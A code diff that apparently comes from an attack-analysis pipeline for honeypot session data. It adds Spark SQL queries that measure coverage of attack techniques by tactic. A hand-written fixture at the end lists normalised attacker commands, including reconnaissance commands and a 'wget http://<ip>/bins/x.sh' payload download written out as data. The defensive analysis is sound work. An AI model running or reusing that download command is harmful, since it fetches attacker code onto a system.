@@ -659,6 +659,26 @@ def _coverage(spark, d):
     return C.coverage(reference.catalog(spark), A.mappings(ev, an), an)
 
 
+@query(
+    "coverage_evidence",
+    sql(f"""SELECT technique_id, analysis_id, session_id, source, confidence, {ts('tm.ts', 'ts')} FROM tm JOIN an USING (analysis_id) WHERE technique_id IN (SELECT technique_id FROM catalog)""",
+        O.AN, O.CATALOG, O.CMD_TECH, O.TM),
+)
+def _coverage_evidence(spark, d):
+    ev = A.events(spark, d)
+    an = A.analyses(ev)
+    return C.coverage_evidence(reference.catalog(spark), A.mappings(ev, an), an)
+
+
+@query(
+    "coverage_totals",
+    sql("""SELECT tactic, count(*) FILTER (technique_id IN (SELECT technique_id FROM tm JOIN an USING (analysis_id) WHERE source = 'rule')) AS observed, count(*) AS total FROM catalog GROUP BY 1""",
+        O.AN, O.CATALOG, O.CMD_TECH, O.TM),
+)
+def _coverage_totals(spark, d):
+    return C.coverage_totals(_coverage(spark, d))
+
+
 SEGMENTS = {
     # command index -> its normalised segments, worked out by hand
     0: ["uname -a"], 1: ["cat /proc/cpuinfo"], 2: ["free -m"], 3: ["cd /tmp"], 4: ["wget http://<ip>/bins/x.sh"], 5: ["wget http://<ip>/bins/x.sh"],
